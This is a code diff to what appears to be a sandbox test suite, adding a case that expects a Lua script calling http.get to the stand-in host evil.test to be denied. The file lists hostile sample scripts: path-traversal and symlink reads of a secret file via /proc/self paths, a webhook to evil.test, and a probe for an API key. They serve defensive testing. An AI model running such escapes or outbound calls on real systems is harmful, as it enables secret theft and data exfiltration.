@@ -16,7 +16,8 @@ extension HostileScript {
         unreadable("a symbolic link to a file", "io.open('@/inside/link')"),
         unreadable("a symbolic link to a folder", "io.open('@/inside/up/secret.txt')"),
         unreadable("the root of a process", "io.open('/proc/self/root@/secret.txt')"),
-        unreadable("the folder of a process", "io.open('/proc/self/cwd/../../../../../../../../../..@/secret.txt')"),
+        unreadable(
+            "the folder of a process", "io.open('/proc/self/cwd/../../../../../../../../../..@/secret.txt')"),
         unreadable("io.lines", "for line in io.lines('@/secret.txt') do print(line) end"),
         HostileScript(
             name: "a finalizer that opens a file",
@@ -73,6 +74,9 @@ extension HostileScript {
         denied(
             "the network by notify", "require('notify').webhook('https://evil.test/x')('now')",
             "notify.webhook", "connect to evil.test:443", flag: "--allow-net=evil.test:443"),
+        denied(
+            "the network by http", "require('http').get('http://evil.test/x')", "http.get",
+            "connect to evil.test:80", flag: "--allow-net=evil.test:80"),
     ]
 
     /// The API's key, which is `KEY-secret` in the environment and in the client.
@@ -105,7 +109,7 @@ extension HostileScript {
                     visit(getmetatable(value))
                 end
                 visit(_G) visit(package.loaded)
-                for _, name in ipairs { "chat", "notify", "rollout", "sim", "suite", "telnyx", "web" } do
+                for _, name in ipairs { "chat", "http", "notify", "rollout", "sim", "suite", "telnyx", "web" } do
                     visit(require(name))
                 end
                 local ok, problem = pcall(ai.assistants.retrieve, "assistant-none")
